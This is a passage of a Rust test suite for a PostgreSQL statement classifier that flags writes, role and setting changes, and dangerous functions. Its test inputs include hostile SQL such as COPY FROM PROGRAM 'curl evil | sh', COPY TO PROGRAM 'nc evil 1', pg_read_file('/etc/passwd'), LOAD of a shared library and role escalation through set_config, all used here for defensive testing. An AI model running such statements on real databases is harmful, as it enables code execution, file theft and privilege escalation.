            assert!(one(sql).reshapes, "{sql}");
        }
        for sql in [
            "CREATE VIEW v AS SELECT email FROM customers",
            "CREATE TABLE t (a int)",
            "DROP TABLE customers",
            "SELECT 1",
        ] {
            assert!(!one(sql).reshapes, "{sql}");
        }
        // Elements of CREATE SCHEMA too.
        let s = one(
            "CREATE SCHEMA s CREATE VIEW v AS SELECT email AS x FROM customers CREATE TRIGGER t AFTER UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION f()",
        );
        assert!(s.makes_view && s.reshapes);
        assert!(one("CREATE VIEW v AS SELECT 1").makes_view);
        assert!(!one("CREATE TABLE v (a int)").makes_view);
        assert!(
            one("ALTER TABLE x INHERIT customers")
                .tables
                .contains(&"public.customers".to_string())
        );
    }

    #[test]
    fn qualified_names_and_scopes_reach_their_relations() {
        // `c.row_to_json` is `row_to_json(c)` unless customers has such a column: kept with
        // its relation for the session to tell.
        let s = one("SELECT c.row_to_json, c.id FROM customers c");
        assert!(
            s.qualified
                .contains(&("customers".to_string(), "row_to_json".to_string()))
        );
        assert!(s.qualified.contains(&("customers".to_string(), "id".to_string())));
        // Every name read as a field, qualified or of a parenthesized value, for the session
        // to check against the database's functions that take a row.
        let s = one("SELECT o.mark_shipped, (o).contact, (row(1)).f1 FROM orders o WHERE x = 1");
        assert_eq!(s.fields, strs(&["mark_shipped", "contact", "f1"]));
        let s = one("EXPLAIN SELECT o.f FROM orders o");
        assert_eq!(s.fields, strs(&["f"]));
        let s = one("SELECT public.customers.to_jsonb FROM public.customers");
        assert_eq!(
            s.qualified,
            vec![("customers".to_string(), "to_jsonb".to_string())]
        );
        assert!(
            one("SELECT j.to_json FROM (users JOIN accounts USING (id)) AS j")
                .columns
                .contains(&"*".to_string())
        );
        // One alias in two scopes stands for both relations.
        let s = one("WITH d AS (SELECT 1 FROM orders c) SELECT row_to_json(c) FROM customers c");
        assert!(
            ["customers", "orders"]
                .iter()
                .all(|t| s.columns.contains(&t.to_string())),
            "{:?}",
            s.columns
        );
        // A statement running a prepared one is both.
        let p = one("SELECT * FROM customers");
        let s = one("CREATE TABLE c AS EXECUTE p").running(&p);
        assert_eq!(s.kinds, vec![K::Create, K::Select]);
        assert!(s.stores && s.writes && s.columns.contains(&"*".to_string()));
        assert!(
            s.tables.contains(&"public.customers".to_string()) && s.tables.contains(&"public.c".to_string())
        );
        assert_eq!(s.node, "CreateTableAsStmt");
    }

    #[test]
    fn explain_runs_only_with_analyze() {
        let s = one("EXPLAIN DELETE FROM orders");
        assert_eq!(s.kinds, vec![K::Explain]);
        assert!(!s.writes && !s.without_where);
        assert_eq!(s.tables, strs(&["public.orders"]));
        let s = one("EXPLAIN ANALYZE DELETE FROM orders");
        assert_eq!(s.kinds, vec![K::ExplainAnalyze, K::Delete]);
        assert!(s.writes && s.without_where);
        for sql in [
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET name = name",
            "EXPLAIN (ANALYZE true, FORMAT JSON) INSERT INTO c (name) VALUES ('a')",
            "EXPLAIN (ANALYZE on) DELETE FROM t",
            "EXPLAIN (ANALYZE 1) DELETE FROM t",
            "explain analyse with d as (delete from orders returning 1) select 1",
            "EXPLAIN ANALYZE VERBOSE DELETE FROM t",
        ] {
            let s = one(sql);
            assert_eq!(s.kind(), K::ExplainAnalyze, "{sql}");
            assert!(s.writes, "{sql}");
        }
        for sql in [
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "EXPLAIN (ANALYZE off, COSTS) DELETE FROM t",
            "EXPLAIN (ANALYZE 0) DELETE FROM t",
        ] {
            let s = one(sql);
            assert_eq!(s.kinds, vec![K::Explain], "{sql}");
            assert!(!s.writes, "{sql}");
        }
        let s = one("EXPLAIN ANALYZE SELECT nextval('s')");
        assert_eq!(
            (s.kinds.clone(), s.writes),
            (vec![K::ExplainAnalyze, K::Select], true)
        );
        let s = one("EXPLAIN ANALYZE EXECUTE del(1)");
        assert_eq!(s.kinds, vec![K::ExplainAnalyze, K::Execute]);
        assert_eq!(s.execute.as_deref(), Some("del"));
        // Without ANALYZE, EXPLAIN EXECUTE still evaluates EXECUTE's arguments.
        let s = one("EXPLAIN EXECUTE echo(billing.mark_paid(2)::text)");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Explain, K::Execute], true));
        let s = one("EXPLAIN EXECUTE echo(set_config('search_path', 'billing', false))");
        assert_eq!(s.settings, ["search_path"]);
        assert!(
            classify("EXPLAIN EXECUTE echo(set_config('standard_conforming_strings', 'off', false))")
                .is_err()
        );
        assert!(!one("EXPLAIN EXECUTE del(1)").writes);
        // Planning folds immutable calls on constants, and the database's own function may be
        // labelled immutable whatever it does: EXPLAIN of it may write.
        assert!(one("EXPLAIN VERBOSE SELECT public.f(1)").writes);
        assert!(!one("EXPLAIN SELECT lower('A')").writes);
    }

    #[test]
    fn functions_that_may_write_are_writes() {
        for sql in [
            "SELECT nextval('orders_id_seq')",
            "SELECT setval('public.orders_id_seq', 100)",
            "SELECT pg_catalog.nextval('s'::regclass)",
            "SELECT \"nextval\"('s')",
            "SELECT NEXTVAL('s')",
            "SELECT (SELECT setval('s', 5)) AS v",
            "SELECT billing.mark_paid(1)",
            "SELECT * FROM billing.mark_paid(2)",
            "SELECT count(*) FROM customers WHERE billing.mark_paid(1) IS NULL",
            "SELECT lo_create(0)",
            "SELECT set_config('search_path', 'billing', false)",
            "SELECT pg_advisory_lock(1)",
            "SELECT txid_current()",
            "VALUES (nextval('s'))",
            // A built-in name in another schema is not the built-in.
            "SELECT evil.lower('A')",
            // Operators that are not built-in symbols.
            "SELECT 1 === 2",
            "SELECT 1 OPERATOR(public.+) 2",
            "SELECT * FROM t ORDER BY a USING ~<~",
        ] {
            assert!(one(sql).writes, "{sql}");
        }
        for sql in [
            "SELECT lower(name), count(*), now(), coalesce(a, b), greatest(1, 2) FROM t GROUP BY 1",
            "SELECT pg_catalog.lower('A'), 'a' || 'b', 1 + 2 * 3, x BETWEEN 1 AND 2, y LIKE 'a%' FROM t",
            "SELECT extract(year FROM now()), substring('abc' FROM 2), trim(' a '), position('b' IN 'abc')",
            "SELECT currval('orders_id_seq') WHERE false",
            "SELECT jsonb_build_object('a', 1) -> 'a', '{}'::jsonb @> '{}'",
            "SELECT x FROM t WHERE x = ANY (ARRAY[1, 2]) AND y IN (1, 2) AND z IS DISTINCT FROM 3",
            "SELECT CURRENT_DATE, CURRENT_USER, now() AT TIME ZONE 'UTC'",
        ] {
            let s = one(sql);
            assert!(!s.writes, "{sql}: {s:?}");
        }
        assert_eq!(
            one("SELECT pg_catalog.upper(x), billing.mark_paid(1) FROM t").functions,
            strs(&["upper", "mark_paid"])
        );
    }

    #[test]
    fn locking_reads_select_into_and_lock() {
        for sql in [
            "SELECT * FROM orders FOR UPDATE",
            "SELECT * FROM c JOIN o ON true FOR NO KEY UPDATE OF o",
            "SELECT * FROM orders FOR SHARE SKIP LOCKED",
            "SELECT * FROM (SELECT * FROM orders FOR KEY SHARE) s",
        ] {
            let s = one(sql);
            assert!(s.writes, "{sql}");
            assert_eq!(s.kinds, vec![K::Select], "{sql}");
        }
        let s = one("SELECT * INTO orders_copy FROM orders");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Select, K::Create], true));
        assert_eq!(s.tables, strs(&["public.orders_copy", "public.orders"]));
        let s = one("CREATE TABLE c AS SELECT * FROM orders");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
        let s = one("CREATE TABLE c AS EXECUTE p(1)");
        assert_eq!(s.execute.as_deref(), Some("p"));
        let s = one("LOCK TABLE orders IN ACCESS SHARE MODE");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Lock], false));
        assert_eq!(s.tables, strs(&["public.orders"]));
        assert!(!one("LOCK orders IN ROW EXCLUSIVE MODE").writes);
        assert!(one("LOCK orders IN SHARE MODE").writes);
        assert!(one("LOCK orders").writes);
    }

    #[test]
    fn without_where() {
        assert!(one("UPDATE t SET a = 1").without_where);
        assert!(one("DELETE FROM t").without_where);
        assert!(!one("DELETE FROM t WHERE false").without_where);
        assert!(!one("DELETE FROM t WHERE CURRENT OF c").without_where);
        assert!(!one("UPDATE t SET a = 1 WHERE CURRENT OF c").without_where);
        assert!(one("WITH x AS (UPDATE t SET a = 1 RETURNING 1) SELECT * FROM x").without_where);
        assert!(!one("SELECT * FROM t").without_where);
        assert!(!one("TRUNCATE t").without_where);
        // MERGE that updates or deletes every row of its target.
        for (sql, every) in [
            ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", true),
            (
                "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1",
                true,
            ),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
                true,
            ),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                false,
            ),
            (
                "MERGE INTO t USING s ON true WHEN MATCHED AND t.a > 1 THEN DELETE",
                false,
            ),
            (
                "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)",
                false,
            ),
        ] {
            assert_eq!(one(sql).without_where, every, "{sql}");
        }
    }

    #[test]
    fn do_call_and_functions_and_procedures() {
        let s = one("DO $$ BEGIN DELETE FROM orders; END $$");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Do], true));
        let s = one("DO LANGUAGE plpgsql $b$ BEGIN EXECUTE 'UPDATE c SET n = ''x'''; END $b$");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Do], true));
        let s = one("CALL billing.archive_paid(now())");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Call], true));
        assert_eq!(s.functions, strs(&["archive_paid", "now"]));
        let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
        let s = one("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
        // A SQL-standard body is parsed: what it does is seen.
        let s = one("CREATE FUNCTION g() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM audit; END");
        assert_eq!(s.kinds, vec![K::Create, K::Delete]);
        assert_eq!(s.tables, strs(&["public.audit"]));
    }

    #[test]
    fn prepare_execute_deallocate() {
        let s = one("PREPARE del AS DELETE FROM orders WHERE id = $1");
        assert_eq!(s.kinds, vec![K::Prepare, K::Delete]);
        assert!(s.writes && !s.without_where);
        assert_eq!(s.tables, strs(&["public.orders"]));
        let (name, inner) = s.prepare.as_ref().unwrap();
        assert_eq!(name, "del");
        assert_eq!(inner.kinds, vec![K::Delete]);
        assert_eq!(inner.text, "DELETE FROM orders WHERE id = $1");
        assert_eq!(inner.tables, strs(&["public.orders"]));
        let s = one("prepare Sel (int, \"as\") as\n  select * from t where id = $1");
        let (name, inner) = s.prepare.as_ref().unwrap();
        assert_eq!(
            (name.as_str(), inner.text.as_str()),
            ("sel", "select * from t where id = $1")
        );
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Prepare, K::Select], false));
        let s = one("PREPARE r AS SELECT set_config('role', $1, false)");
        assert_eq!(s.kinds, vec![K::Prepare, K::Select, K::SetRole]);
        let s = one("EXECUTE del(1)");
        assert_eq!(
            (s.kinds.clone(), s.execute.as_deref()),
            (vec![K::Execute], Some("del"))
        );
        let s = one("EXECUTE del((SELECT max(id) FROM secret))");
        assert_eq!(s.tables, strs(&["public.secret"]));
        let s = one("DEALLOCATE del");
        assert_eq!(
            (s.kinds.clone(), s.deallocate.clone()),
            (vec![K::Deallocate], Some(Some("del".into())))
        );
        assert_eq!(one("DEALLOCATE ALL").deallocate, Some(None));
        assert_eq!(one("DEALLOCATE PREPARE ALL").deallocate, Some(None));
        let s = one("DISCARD ALL");
        assert_eq!(
            (s.kinds.clone(), s.deallocate.clone()),
            (vec![K::SetRole], Some(None))
        );
        let s = all("PREPARE del AS DELETE FROM orders WHERE id = $1; EXECUTE del(1)");
        assert_eq!(s[1].execute.as_deref(), Some("del"));
    }

    #[test]
    fn identity_changes_are_set_role() {
        for sql in [
            "SET ROLE admin",
            "SET SESSION ROLE admin",
            "SET LOCAL ROLE admin",
            "SET role = 'admin'",
            "set Role to admin",
            "SET \"ROLE\" TO admin",
            "SET ROLE NONE",
            "RESET ROLE",
            "SET SESSION AUTHORIZATION admin",
            "SET SESSION AUTHORIZATION DEFAULT",
            "RESET SESSION AUTHORIZATION",
            "SET session_authorization = admin",
            "RESET ALL",
            "DISCARD ALL",
        ] {
            let s = one(sql);
            assert_eq!(s.kinds, vec![K::SetRole], "{sql}");
            assert!(!s.writes, "{sql}");
        }
        for sql in [
            "SELECT set_config('role', 'admin', false)",
            "SELECT pg_catalog.set_config('ROLE', 'admin', true)",
            "SELECT set_config('session_authorization', 'admin', false)",
            "SELECT * FROM set_config('role', 'admin', false)",
            "SELECT 1 WHERE set_config('role'::text, 'admin', false) IS NOT NULL",
        ] {
            let s = one(sql);
            assert_eq!(s.kinds, vec![K::Select, K::SetRole], "{sql}");
            assert!(s.writes, "{sql}");
        }
        let s = one("SELECT set_config('work_mem', '1MB', false)");
        assert_eq!(s.kinds, vec![K::Select, K::Set]);
        assert_eq!(s.settings, strs(&["work_mem"]));
        let s = one("SET work_mem = '1MB'");
        assert_eq!(
            (s.kinds.clone(), s.settings.clone()),
            (vec![K::Set], strs(&["work_mem"]))
        );
        assert_eq!(
            one("SET search_path TO billing, public").settings,
            strs(&["search_path"])
        );
        assert_eq!(one("SET SCHEMA 'billing'").settings, strs(&["search_path"]));
        assert_eq!(one("RESET ALL").settings, strs(&["*"]));
        assert_eq!(one("SHOW search_path").kinds, vec![K::Show]);
        assert_eq!(
            one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").kinds,
            vec![K::Transaction]
        );
    }

    #[test]
    fn settings_that_change_how_text_is_read_are_refused() {
        for sql in [
            "SET standard_conforming_strings = off",
            "SET standard_conforming_strings TO false",
            "SET LOCAL standard_conforming_strings = 0",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "SELECT set_config('standard_conforming_strings', $1, false)",
            "SET client_encoding = 'SJIS'",
            "SET NAMES 'BIG5'",
            "SELECT set_config('client_encoding', 'GBK', false)",
            "EXPLAIN ANALYZE SELECT set_config('client_encoding', 'GBK', false)",
            "SELECT 1; SET client_encoding = 'SJIS'",
            "SELECT set_config('standard_conforming' || '_strings', 'off', false)",
            "SELECT set_config($1, 'off', false)",
            // A computed name may be any setting: refused whatever the policy says of SetRole.
            "SELECT set_config('rol' || 'e', 'admin', false)",
            "SELECT set_config($1, $2, false)",
        ] {
            assert!(classify(sql).is_err(), "{sql}");
        }
        for sql in [
            "SET standard_conforming_strings = on",
            "SET client_encoding = 'UTF8'",
            "SET NAMES 'utf-8'",
            "SET client_encoding TO unicode",
            "RESET client_encoding",
            "SET client_encoding TO DEFAULT",
        ] {
            assert!(classify(sql).is_ok(), "{sql}");
        }
    }

    #[test]
    fn settings_changed_through_pg_settings_are_refused() {
        for sql in [
            "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
            "UPDATE pg_catalog.pg_settings SET setting = 'admin' WHERE name = 'role'",
            "WITH x AS (UPDATE pg_settings SET setting = '1' RETURNING 1) SELECT 1",
        ] {
            assert!(classify(sql).is_err(), "{sql}");
        }
        assert!(classify("SELECT * FROM pg_settings").is_ok());
        assert!(classify("UPDATE app.pg_settings SET x = 1 WHERE true").is_ok());
    }

    #[test]
    fn copy() {
        let s = one("COPY orders FROM STDIN");
        assert_eq!(
            (s.kinds.clone(), s.writes, s.copy),
            (
                vec![K::Copy],
                true,
                Some(CopyInfo {
                    from: true,
                    program: false,
                    file: false,
                    binary: false,
                    reshapes_text: false,
                })
            )
        );
        assert_eq!(s.tables, strs(&["public.orders"]));
        let s = one("COPY billing.invoices (order_id, amount) TO STDOUT WITH (FORMAT csv)");
        assert_eq!((s.writes, s.copy.map(|c| c.from)), (false, Some(false)));
        assert_eq!(s.tables, strs(&["billing.invoices"]));
        let s = one("COPY (SELECT * FROM secret) TO STDOUT");
        assert_eq!((s.writes, s.tables.clone()), (false, strs(&["public.secret"])));
        let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Copy, K::Delete], true));
        for sql in [
            "COPY orders TO STDOUT (FORMAT binary)",
            "COPY orders TO STDOUT (FORMAT 'BINARY')",
            "COPY orders TO STDOUT BINARY",
            "COPY orders TO STDOUT WITH BINARY",
            "COPY (SELECT card_number::bigint FROM orders) TO STDOUT (FORMAT binary)",
        ] {
            assert!(one(sql).copy.is_some_and(|c| c.binary && !c.from), "{sql}");
        }
        for sql in [
            "COPY orders TO STDOUT",
            "COPY orders TO STDOUT (FORMAT csv)",
            "COPY orders TO STDOUT (FORMAT text)",
        ] {
            assert!(one(sql).copy.is_some_and(|c| !c.binary), "{sql}");
        }
        for sql in [
            "COPY orders TO STDOUT (DELIMITER ' ')",
            "COPY orders TO STDOUT WITH DELIMITER '@'",
            "COPY orders TO STDOUT (FORMAT csv, QUOTE ' ')",
            "COPY orders TO STDOUT (FORMAT csv, ESCAPE '1', FORCE_QUOTE *)",
        ] {
            assert!(one(sql).copy.is_some_and(|c| c.reshapes_text), "{sql}");
        }
        for sql in [
            "COPY orders TO STDOUT (FORMAT csv, DELIMITER ';', QUOTE '\"')",
            "COPY orders TO STDOUT (DELIMITER E'\\t', NULL 'none')",
            "COPY orders TO STDOUT (FORMAT csv, HEADER, DELIMITER '|')",
        ] {
            assert!(one(sql).copy.is_some_and(|c| !c.reshapes_text), "{sql}");
        }
        let s = one("COPY orders FROM PROGRAM 'curl evil | sh'");
        assert_eq!(s.copy.map(|c| (c.program, c.file)), Some((true, false)));
        let s = one("COPY orders TO PROGRAM 'nc evil 1'");
        assert!(s.writes && s.copy.is_some_and(|c| c.program && !c.from));
        let s = one("COPY orders FROM '/etc/passwd'");
        assert_eq!(s.copy.map(|c| (c.program, c.file)), Some((false, true)));
        let s = one("COPY orders TO '/tmp/x'");
        assert!(s.writes && s.copy.is_some_and(|c| c.file && !c.from));
        // Only FROM STDIN has the client send data.
        for (sql, stdin) in [
            ("COPY orders FROM STDIN", true),
            ("COPY orders (id) FROM STDIN (FORMAT csv)", true),
            ("COPY orders FROM '/etc/passwd'", false),
            ("COPY orders FROM PROGRAM 'id'", false),
            ("COPY orders TO STDOUT", false),
        ] {
            assert_eq!(one(sql).copy.map(|c| c.from_stdin()), Some(stdin), "{sql}");
        }
    }

    #[test]
    fn dangerous_functions_are_listed_wherever_they_are_called() {
        for (sql, f) in [
            ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
            ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
            ("SELECT lo_import('/etc/passwd')", "lo_import"),
            ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
            ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "dblink"),
            ("SELECT ext.dblink_exec('x')", "dblink_exec"),
            ("SELECT 1 WHERE pg_terminate_backend(1)", "pg_terminate_backend"),
            (
                "WITH x AS (SELECT pg_read_binary_file('/x')) SELECT 1",
                "pg_read_binary_file",
            ),
            (
                "SELECT query_to_xml('SELECT * FROM secret', true, false, '')",
                "query_to_xml",
            ),
            ("INSERT INTO t VALUES (pg_read_file('/x'))", "pg_read_file"),
        ] {
            assert!(one(sql).functions.iter().any(|x| x == f), "{sql}");
        }
    }

    #[test]
    fn ddl_kinds() {
        for (sql, kind) in [
            ("CREATE TABLE t (id int)", K::Create),
            ("CREATE INDEX ON orders (status)", K::Create),
            ("CREATE VIEW v AS SELECT * FROM orders", K::Create),
            ("CREATE SCHEMA s2", K::Create),
            ("CREATE ROLE someone", K::Create),
            ("CREATE EXTENSION dblink", K::Create),
            ("CREATE SEQUENCE s", K::Create),
            ("CREATE TYPE mood AS ENUM ('a')", K::Create),
            ("CREATE MATERIALIZED VIEW mv AS SELECT 1", K::Create),
            ("ALTER TABLE customers ADD COLUMN nickname text", K::Alter),
            ("ALTER ROLE gw PASSWORD 'changed'", K::Alter),
            ("ALTER SYSTEM SET archive_command = 'sh -c x'", K::Alter),
            ("ALTER TABLE t RENAME TO u", K::Alter),
            ("COMMENT ON TABLE orders IS 'x'", K::Alter),
            ("DROP TABLE a, billing.b", K::Drop),
            ("DROP VIEW customer_contacts", K::Drop),
            ("DROP ROLE someone", K::Drop),
            ("DROP SCHEMA billing CASCADE", K::Drop),
            ("TRUNCATE billing.invoices", K::Truncate),
            ("GRANT SELECT ON orders TO PUBLIC", K::Grant),
            ("GRANT admin TO agent", K::Grant),
            ("REVOKE ALL ON orders FROM gw", K::Revoke),
            ("REVOKE admin FROM agent", K::Revoke),
            (
                "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent",
                K::Grant,
            ),
        ] {
            let s = one(sql);
            assert_eq!(s.kinds, vec![kind], "{sql}");
            assert!(s.writes, "{sql}");
        }
        assert_eq!(
            one("DROP TABLE a, billing.b").tables,
            strs(&["public.a", "billing.b"])
        );
        assert_eq!(one("TRUNCATE a, b").tables, strs(&["public.a", "public.b"]));
        // The built-in operator symbols a statement uses, written or not, and the types it makes
        // values into: a session checks them against the database's own.
        for (sql, operators, types) in [
            ("SELECT 1 + 2 * 3", &["+", "*"][..], &[][..]),
            (
                "SELECT 1 BETWEEN 0 AND 2, 3 NOT BETWEEN 4 AND 5",
                &[">=", "<=", "<", ">"],
                &[],
            ),
            ("SELECT 1 IN (SELECT 2)", &["="], &[]),
            ("SELECT * FROM a NATURAL JOIN b", &["="], &[]),
            ("SELECT * FROM a JOIN b USING (k)", &["="], &[]),
            ("SELECT CASE x WHEN 1 THEN 2 END FROM t", &["="], &[]),
            (
                "SELECT 1::checked, CAST(2 AS public.d), text 'x'",
                &[],
                &["checked", "d", "text"],
            ),
            ("SELECT * FROM f() AS x(c checked)", &[], &["checked"]),
            ("SELECT OPERATOR(pg_catalog.+)(1, 2)", &[], &[]),
        ] {
            let s = one(sql);
            assert_eq!((s.operators, s.types), (strs(operators), strs(types)), "{sql}");
        }
        for sql in ["EXPLAIN SELECT 1 + 'x'::t", "PREPARE p AS SELECT 1 + 'x'::t"] {
            let s = one(sql);
            assert_eq!((s.operators, s.types), (strs(&["+"]), strs(&["t"])), "{sql}");
        }
        let execute = one("EXECUTE p(1 + 'x'::t)").running(&one("SELECT $1 || 'y'"));
        assert_eq!(execute.operators, strs(&["||", "+"]));
        assert_eq!(execute.types, strs(&["t"]));
        // A table's triggers, row-level security policies, rules and constraints are named with
        // it.
        for (sql, table) in [
            ("DROP TRIGGER orders_audit ON public.orders", "public.orders"),
            (
                "DROP POLICY IF EXISTS tenant ON billing.invoices",
                "billing.invoices",
            ),
            ("DROP RULE r ON orders", "public.orders"),
            (
                "COMMENT ON TRIGGER orders_audit ON orders IS 'x'",
                "public.orders",
            ),
            (
                "COMMENT ON POLICY tenant ON billing.invoices IS 'x'",
                "billing.invoices",
            ),
            (
                "COMMENT ON CONSTRAINT invoices_pkey ON billing.invoices IS 'x'",
                "billing.invoices",
            ),
        ] {
            assert_eq!(one(sql).tables, strs(&[table]), "{sql}");
        }
        assert_eq!(
            one("GRANT SELECT ON orders TO PUBLIC").tables,
            strs(&["public.orders"])
        );
        assert_eq!(
            one("COMMENT ON TABLE orders IS 'x'").tables,
            strs(&["public.orders"])
        );
        let s = one("COMMENT ON COLUMN billing.invoices.iban IS 'x'");
        assert_eq!(
            (s.tables, s.columns),
            (strs(&["billing.invoices"]), strs(&["iban"]))
        );
        assert_eq!(one("ALTER TABLE t RENAME TO u").tables, strs(&["public.t"]));
        assert_eq!(
            one("CREATE INDEX ON orders (status)").tables,
            strs(&["public.orders"])
        );
        assert_eq!(
            one("CREATE VIEW v AS SELECT * FROM orders").tables,
            strs(&["public.v", "public.orders"])
        );
        assert_eq!(one("ALTER SYSTEM SET work_mem = '8MB'").node, "AlterSystemStmt");
    }

    #[test]
    fn rules_triggers_load_and_other_commands() {
        let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit");
        assert_eq!(s.kinds, vec![K::Create, K::Delete]);
        assert_eq!(s.tables, strs(&["public.t", "public.audit"]));
        let s = one("CREATE TRIGGER tr AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION billing.audit()");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
        assert_eq!(
            (s.tables.clone(), s.functions.clone()),
            (strs(&["public.orders"]), strs(&["audit"]))
        );
        let s = one("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION snoop()");
        assert_eq!(s.functions, strs(&["snoop"]));
        let s = one("LOAD '/tmp/evil.so'");
        assert_eq!(
            (s.kinds.clone(), s.writes, s.node),
            (vec![K::Other], true, "LoadStmt")
        );
        for (sql, kind, writes) in [
            ("BEGIN", K::Transaction, false),
            ("START TRANSACTION READ ONLY", K::Transaction, false),
            ("COMMIT", K::Transaction, false),
            ("ROLLBACK TO SAVEPOINT a", K::Transaction, false),
            ("SAVEPOINT a", K::Transaction, false),
            ("SET CONSTRAINTS ALL DEFERRED", K::Transaction, false),
            ("PREPARE TRANSACTION 'g1'", K::Transaction, true),
            ("COMMIT PREPARED 'g1'", K::Transaction, true),
            ("ROLLBACK PREPARED 'g1'", K::Transaction, true),
            ("LISTEN ch", K::Listen, false),
            ("UNLISTEN *", K::Listen, false),
            ("NOTIFY ch, 'x'", K::Notify, true),
            ("VACUUM FULL orders", K::Vacuum, true),
            ("ANALYZE orders", K::Vacuum, true),
            ("CHECKPOINT", K::Other, true),
            ("CLUSTER orders USING orders_pkey", K::Other, true),
            ("REINDEX TABLE orders", K::Other, true),
            ("REFRESH MATERIALIZED VIEW order_totals", K::Other, true),
            ("DISCARD PLANS", K::Other, false),
            ("DECLARE c CURSOR FOR SELECT * FROM orders", K::Select, false),
            ("FETCH 10 FROM c", K::Select, false),
            ("CLOSE c", K::Select, false),
        ] {
            let s = one(sql);
            assert_eq!((s.kinds.clone(), s.writes), (vec![kind], writes), "{sql}");
        }
        assert_eq!(one("VACUUM orders").tables, strs(&["public.orders"]));
        // Portals end with these while the session stays in a transaction.
        for (sql, drops) in [
            ("COMMIT AND CHAIN", true),
            ("ROLLBACK AND CHAIN", true),
            ("ROLLBACK TO SAVEPOINT a", false),
            ("COMMIT", false),
            ("ROLLBACK AND NO CHAIN", false),
            ("RELEASE SAVEPOINT a", false),
        ] {
            assert_eq!(one(sql).drops_portals, drops, "{sql}");
        }
        // And cursors with these.
        for (sql, ends) in [
            ("COMMIT", Some(CursorsEnd::Commit)),
            ("END", Some(CursorsEnd::Commit)),
            ("COMMIT AND CHAIN", Some(CursorsEnd::Commit)),
            ("ROLLBACK", Some(CursorsEnd::Rollback)),
            ("ABORT", Some(CursorsEnd::Rollback)),
            ("ROLLBACK TO SAVEPOINT a", Some(CursorsEnd::Rollback)),
            ("PREPARE TRANSACTION 'x'", Some(CursorsEnd::Rollback)),
            ("DISCARD ALL", Some(CursorsEnd::Discard)),
            ("BEGIN", None),
            ("SAVEPOINT a", None),
            ("RELEASE SAVEPOINT a", None),
            ("COMMIT PREPARED 'x'", None),
            ("DISCARD PLANS", None),
        ] {
            assert_eq!(one(sql).ends_cursors, ends, "{sql}");
        }
        assert_eq!(
            one("DECLARE c CURSOR FOR SELECT * FROM orders").tables,
            strs(&["public.orders"])
        );
    }

    #[test]
    fn what_does_not_parse_is_an_error() {
        let e = classify("SELEC 1").unwrap_err();
        assert!(e.message.contains("syntax error"), "{e}");
        let e = classify("SELECT 1 +").unwrap_err();
        assert_eq!(e.position, Some(11));
        assert_eq!(e.to_string(), "syntax error at end of input at character 11");
        assert!(classify("SELECT 1\0; DROP TABLE t").is_err());
        assert!(classify("SELECT 'unterminated").is_err());
        assert!(classify("SELECT 1 /* unterminated").is_err());
        assert!(classify("SELECT $$ unterminated").is_err());
    }

    #[test]
    fn deep_nesting_is_classified_or_refused() {
        // Long flat chains parse; absurd nesting is refused, never walked past.
        let chain = format!("SELECT {}", vec!["x"; 500].join(" AND "));
        assert!(!one(&chain).writes);
        // pg_query decodes the tree with prost's recursion limit (100 nested messages): deeper
        // statements are refused, never walked past.
        let sum = |n| format!("SELECT {} FROM t", vec!["1"; n].join(" + "));
        assert!(classify(&sum(40)).is_ok());
        let e = classify(&sum(60)).unwrap_err();
        assert_eq!(e.message, "the statement is too deeply nested to classify");
        let subqueries = |n| format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n));
        assert!(classify(&subqueries(10)).is_ok());
        assert!(classify(&subqueries(30)).is_err());
        let nested = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
        assert!(classify(&nested).is_err());
    }

    #[test]
    fn read_only_function_list_has_no_writers() {
        for f in [
            "nextval",
            "setval",
            "set_config",
            "lo_import",
            "pg_read_file",
            "dblink",
            "query_to_xml",
            "ts_stat",
            "ts_rewrite",
            "pg_advisory_lock",
            "txid_current",
            "pg_notify",
            "setseed",
        ] {
            assert!(!read_only_functions().contains(f), "{f}");
        }
        let unique: HashSet<_> = READ_ONLY_FUNCTIONS.iter().collect();
        assert_eq!(
            unique.len(),
            READ_ONLY_FUNCTIONS.len(),
            "duplicates in READ_ONLY_FUNCTIONS"
        );
    }

    /// Why the cache key is the exact text: pg_query's fingerprint equates texts this classifier
    /// must tell apart.
    #[test]
    fn fingerprints_are_not_a_sound_cache_key() {
        for (a, b) in [
            // Constants: an identity change and a harmless setting.
            (
                "SELECT set_config('role', 'admin', false)",
                "SELECT set_config('work_mem', '64MB', false)",
            ),
            // Names of prepared statements.
